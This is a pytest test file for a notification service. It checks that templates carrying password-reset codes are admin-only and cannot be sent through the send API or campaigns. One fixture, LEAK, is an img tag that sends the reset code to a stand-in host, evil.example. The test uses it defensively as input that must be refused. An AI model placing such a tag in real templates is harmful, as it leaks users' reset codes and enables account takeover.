"""Templates with one-time codes: only admins change them, and only Tidings sends them."""

from collections.abc import Callable
from typing import Any

import pytest

from tests.integration.builders import a_person, a_reader
from tests.unit.templates.builders import in_email, some_words
from tidings.campaigns.models import Campaign
from tidings.campaigns.operations import create_campaign
from tidings.campaigns.schemas import CreateCampaign
from tidings.delivery.models import Notification
from tidings.notifications.models import SendRequest
from tidings.notifications.schemas import SendNotification
from tidings.notifications.send_api import send_notification
from tidings.platform.errors import Forbidden
from tidings.platform.security.auth import Role
from tidings.platform.timing.clock import new_id
from tidings.templates import operations, queries, rendering
from tidings.templates.content import TemplateContent
from tidings.templates.errors import CodeTemplate, TemplateRefused, UnsafeCode
from tidings.templates.models import TemplateVersion
from tidings.templates.schemas import (
    CreateTemplate,
    PreviewTemplate,
    RollBackTemplate,
    UpdateTemplate,
)

RESET = "password_reset"
OPERATOR, ADMIN = a_person(Role.OPERATOR), a_person(Role.ADMIN)
SAFE = "<p>{{ reset_code }}</p>"
LEAK = '<img src="https://evil.example/{{ reset_code }}">'


def mail(html: str = SAFE, **more: Any) -> dict[str, Any]:
    content = in_email(html, required_variables=["reset_code"], category="account", **more)
    return content.model_dump(mode="json")


def stored_before(code: str, html: str, version: int) -> None:
    """Store a version as a release without these rules did."""
    content = TemplateContent.model_validate(mail(html))
    TemplateVersion(
        id=f"{code}:{version}",
        code=code,
        version=version,
        content=content.model_dump_json(),
        changed_by=OPERATOR.user_id,
    ).save(force_insert=True)
    rendering.forget_kept()


def updated(caller: Any, code: str = RESET, version: int = 1, **content: Any) -> None:
    change = UpdateTemplate.model_validate((content or mail()) | {"version": version})
    operations.update_template(code, change, caller=caller)


def created(caller: Any, code: str = "mine", **content: Any) -> None:
    new = CreateTemplate.model_validate((content or mail()) | {"code": code})
    operations.create_template(new, caller=caller)


def rolled_back(caller: Any, version: int, to_version: int, code: str = RESET) -> None:
    wanted = RollBackTemplate(version=version, to_version=to_version)
    operations.rollback_template(code, wanted, caller=caller)


WITHOUT_CODE = some_words(required_variables=[], category="account") | {
    "variants": [{"language": "en", "inbox": {"title": "Hello", "body": "Hello"}}]
}


@pytest.mark.parametrize("caller", [OPERATOR, a_person(), a_person(Role.SERVICE)])
@pytest.mark.parametrize(
    "change",
    [
        lambda caller: updated(caller),
        lambda caller: updated(caller, **WITHOUT_CODE),
        lambda caller: updated(caller, code="user_registered", **WITHOUT_CODE),
        lambda caller: rolled_back(caller, 1, 1),
        lambda caller: created(caller),
    ],
)
def test_only_admins_change_a_template_with_a_code(
    caller: Any, change: Callable[[Any], None]
) -> None:
    with pytest.raises(Forbidden):
        change(caller)
    assert TemplateVersion.objects.count() == 0


def test_admin_changes_rolls_back_and_previews() -> None:
    updated(ADMIN)
    rolled_back(ADMIN, 2, 1)
    wanted = PreviewTemplate(variables={"reset_code": "ABCD1234"})
    preview = queries.preview_template(RESET, wanted, caller=ADMIN)
    assert preview.version == 3
    assert "ABCD1234" in (preview.email_text or "")


def test_operator_cannot_restore_a_code_by_rolling_back() -> None:
    created(ADMIN)
    updated(ADMIN, "mine", **WITHOUT_CODE)
    with pytest.raises(Forbidden):
        rolled_back(OPERATOR, 2, 1, code="mine")
    with pytest.raises(Forbidden):
        updated(OPERATOR, "mine", version=2)
    updated(OPERATOR, "mine", version=2, **WITHOUT_CODE | {"description": "Fine."})


def test_admin_cannot_store_a_leak_either() -> None:
    with pytest.raises(TemplateRefused):
        updated(ADMIN, **mail(LEAK))
    with pytest.raises(TemplateRefused):
        created(ADMIN, **mail(LEAK))
    assert TemplateVersion.objects.count() == 0


def test_leak_stored_by_an_older_release_is_neither_sent_nor_restored() -> None:
    stored_before(RESET, LEAK, 2)
    stored_before(RESET, SAFE, 3)
    with pytest.raises(UnsafeCode):
        rendering.render(RESET, version=2, language="en", variables={"reset_code": "ABCD1234"})
    with pytest.raises(TemplateRefused):
        rolled_back(ADMIN, 3, 2)


def test_template_of_a_code_requires_only_variables_of_its_event() -> None:
    content = mail() | {"required_variables": ["reset_code", "more"]}
    with pytest.raises(TemplateRefused, match="more"):
        updated(ADMIN, **content)


def test_operator_previews_the_samples_only() -> None:
    assert queries.preview_template(RESET, PreviewTemplate(), caller=OPERATOR).email_text
    for variables in ({"reset_code": "ABCD1234"}, {"name": "Ada"}):
        with pytest.raises(Forbidden):
            queries.preview_template(RESET, PreviewTemplate(variables=variables), caller=OPERATOR)


def test_built_in_template_with_a_code_ignores_versions_of_older_releases() -> None:
    stored_before(RESET, LEAK, 1)
    made = rendering.render(RESET, version=1, language="en", variables={"reset_code": "ABCD1234"})
    assert "evil" not in (made.email_html or "")


# ------------------------------------------------------------------------- sending them


@pytest.mark.parametrize("caller", [OPERATOR, ADMIN, a_person(Role.SERVICE)])
@pytest.mark.parametrize("channel", ["email", "push", "inbox", "sms", "webhook"])
@pytest.mark.parametrize("code", [RESET, "user_registered", "mine"])
def test_template_with_a_code_cannot_be_sent_by_the_send_api(
    caller: Any, channel: str, code: str
) -> None:
    created(ADMIN)
    wanted = SendNotification.model_validate(
        {
            "notification_type": channel,
            "user_id": a_reader().user_id,
            "template_code": code,
            "variables": {"reset_code": "ABCD1234", "verification_code": "ABCD1234"},
            "request_id": new_id(),
        }
    )
    with pytest.raises(CodeTemplate):
        send_notification(wanted, caller=caller)
    assert Notification.objects.count() == SendRequest.objects.count() == 0


@pytest.mark.parametrize("caller", [OPERATOR, ADMIN])
def test_template_with_a_code_cannot_be_used_by_a_campaign(caller: Any) -> None:
    new = CreateCampaign.model_validate(
        {
            "name": "Phishing",
            "template_code": RESET,
            "variables": {"reset_code": "ABCD1234"},
            "audience": {},
            "schedule": {"kind": "weekly"},
        }
    )
    with pytest.raises(CodeTemplate):
        create_campaign(new, caller=caller)
    assert Campaign.objects.count() == 0
